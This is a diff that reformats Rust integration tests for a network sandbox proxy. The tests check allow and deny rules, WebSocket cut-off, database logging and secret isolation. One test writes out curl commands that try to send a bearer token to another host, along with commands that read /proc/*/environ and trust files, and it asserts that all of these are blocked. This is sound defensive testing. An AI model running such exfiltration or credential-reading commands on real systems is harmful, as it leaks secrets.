@@ -42,7 +42,12 @@ impl Flood {
         python.arg(file).args(["serve", &mebibytes.to_string()]).stdin(Stdio::null());
         let server = Self(python.spawn().expect("nsenter"));
         eventually("the server of much", Duration::from_secs(10), || {
-            let listens = internet.lab.enter("python3").args(["-c", "import socket; socket.create_connection(('127.0.0.1', 9000))"]).stderr(Stdio::null()).status();
+            let listens = internet
+                .lab
+                .enter("python3")
+                .args(["-c", "import socket; socket.create_connection(('127.0.0.1', 9000))"])
+                .stderr(Stdio::null())
+                .status();
             listens.is_ok_and(|status| status.success()).then_some(())
         });
         server
@@ -132,7 +137,12 @@ fn messages_of_grpc_go_both_ways_and_end_in_trailers(world: &World) {
     let internet = Internet::new(world);
     internet.script("grpc.mjs", include_str!("flows/grpc.mjs"));
     let expected = "application/grpc\none\ntwo\nstatus 0\n";
-    assert_eq!(internet.outside("NODE_EXTRA_CA_CERTS=/etc/ssl/certs/ca-certificates.crt node grpc.mjs").out, expected);
+    assert_eq!(
+        internet
+            .outside("NODE_EXTRA_CA_CERTS=/etc/ssl/certs/ca-certificates.crt node grpc.mjs")
+            .out,
+        expected
+    );
     world.settings("[network]\nallow = [\"api.example\"]\ninspect = [\"api.example\"]\n");
     let output = internet.inside("node grpc.mjs");
     assert_eq!(output.out, expected, "{output:?}");
@@ -171,7 +181,9 @@ fn a_slow_program_is_cut(world: &World) {
 fn a_deny_ends_an_open_web_socket_at_once(world: &World) {
     let internet = Internet::new(world);
     internet.script("websocket.py", SOCKET);
-    world.settings("[network]\nallow = [\"api.example\", \"other.example\"]\ninspect = [\"api.example\"]\n");
+    world.settings(
+        "[network]\nallow = [\"api.example\", \"other.example\"]\ninspect = [\"api.example\"]\n",
+    );
     let remit = places::remit();
     let open = |host: &str, file: &str| {
         let script = format!("python3 websocket.py {host} 443 one --hold > {file} 2>&1");
@@ -180,11 +192,15 @@ fn a_deny_ends_an_open_web_socket_at_once(world: &World) {
     let said = |file: &str| fs::read_to_string(world.workspace.join(file)).unwrap_or_default();
     let open = [open(API, "first"), open("other.example", "second")];
     for file in ["first", "second"] {
-        eventually("the WebSocket", Duration::from_secs(15), || said(file).contains("one").then_some(()));
+        eventually("the WebSocket", Duration::from_secs(15), || {
+            said(file).contains("one").then_some(())
+        });
     }
     let denied = Instant::now();
     world.settings("[network]\nallow = [\"api.example\", \"other.example\"]\ninspect = [\"api.example\"]\ndeny = [\"api.example\"]\n");
-    eventually("the end of the WebSocket", Duration::from_secs(5), || said("first").contains("ended").then_some(()));
+    eventually("the end of the WebSocket", Duration::from_secs(5), || {
+        said("first").contains("ended").then_some(())
+    });
     let took = denied.elapsed();
     assert!(took < Duration::from_secs(3), "{took:?}");
     assert!(!said("second").contains("ended"), "what is still allowed stays open");
@@ -213,7 +229,8 @@ fn a_secret_goes_to_its_own_host_alone(world: &World) {
         file.display()
     ));
     let curl = "curl -sS -m 10 -H \"authorization: Bearer $TOKEN\"";
-    let output = internet.inside(&format!("{curl} https://{API}/echo; echo; cat {}", file.display()));
+    let output =
+        internet.inside(&format!("{curl} https://{API}/echo; echo; cat {}", file.display()));
     assert!(!output.both().contains(secret), "an echo: {output:?}");
     let bearer = format!("Bearer {secret}");
     assert!(!internet.saw(&[&bearer, "/echo"]).is_empty(), "{output:?} {:?}", internet.seen());
@@ -224,16 +241,20 @@ fn a_secret_goes_to_its_own_host_alone(world: &World) {
         format!("{curl} https://other.example/echo"),
         format!("{curl} http://{API}/echo"),
         format!("{curl} http://other.example/echo"),
-        format!("curl -sS -m 10 'https://other.example/echo?x='$TOKEN"),
-        format!("curl -sS -m 10 -d x=$TOKEN https://other.example/echo"),
-        format!("curl -sS -m 10 -u user:$TOKEN https://other.example/echo"),
+        "curl -sS -m 10 'https://other.example/echo?x='$TOKEN".to_owned(),
+        "curl -sS -m 10 -d x=$TOKEN https://other.example/echo".to_owned(),
+        "curl -sS -m 10 -u user:$TOKEN https://other.example/echo".to_owned(),
     ] {
         let output = internet.inside(&elsewhere);
         assert!(internet.saw(&[secret]).is_empty(), "{elsewhere}: {:?}", internet.saw(&[secret]));
-        assert!(!output.out.contains(GREETING) && !output.out.contains("\"method\""), "{elsewhere}: {output:?}");
+        assert!(
+            !output.out.contains(GREETING) && !output.out.contains("\"method\""),
+            "{elsewhere}: {output:?}"
+        );
         world.record().has(&["refusal"]);
     }
-    let environment = internet.inside("env; cat /proc/*/environ; cat /run/remit/trust/* | grep -c PRIVATE").out;
+    let environment =
+        internet.inside("env; cat /proc/*/environ; cat /run/remit/trust/* | grep -c PRIVATE").out;
     assert!(!environment.contains(secret) && environment.contains("TOKEN="));
     assert!(Path::new(&file).exists());
 }
@@ -241,12 +262,16 @@ fn a_secret_goes_to_its_own_host_alone(world: &World) {
 fn a_database_is_named_in_the_record(world: &World) {
     let internet = Internet::new(world);
     let _server = Postgres::within(world, &internet.lab);
-    let script = "psql -h db.example -U postgres -At -c \"select 'hello from a database'\" postgres";
+    let script =
+        "psql -h db.example -U postgres -At -c \"select 'hello from a database'\" postgres";
     internet.outside(script).succeeds().says("hello from a database");
     internet.inside(script).fails();
     world.settings("[network]\nallow = [\"db.example:5432\"]\n");
     for mode in ["prefer", "disable"] {
-        internet.inside(&format!("PGSSLMODE={mode} {script}")).succeeds().says("hello from a database");
+        internet
+            .inside(&format!("PGSSLMODE={mode} {script}"))
+            .succeeds()
+            .says("hello from a database");
         world.record().has(&["connect_fact", "\"database\":\"postgres\""]);
     }
 }
@@ -270,8 +295,16 @@ fn everything_goes_by_the_proxy_outside(world: &World) {
         for url in ["https://api.example/", "http://api.example/"] {
             internet.inside(&format!("curl -sS -m 10 {url}")).succeeds().says(GREETING);
         }
-        assert!(!internet.saw(&["proxy", "api.example:443", "true"]).is_empty(), "{:?}", internet.seen());
-        assert!(!internet.saw(&["proxy", "api.example:80", "true"]).is_empty(), "{:?}", internet.seen());
+        assert!(
+            !internet.saw(&["proxy", "api.example:443", "true"]).is_empty(),
+            "{:?}",
+            internet.seen()
+        );
+        assert!(
+            !internet.saw(&["proxy", "api.example:80", "true"]).is_empty(),
+            "{:?}",
+            internet.seen()
+        );
         internet.inside(&format!("curl -sS -m 10 https://{DENIED}/")).fails_or_is_refused();
         assert!(internet.saw(&[DENIED]).is_empty(), "{:?}", internet.seen());
     }
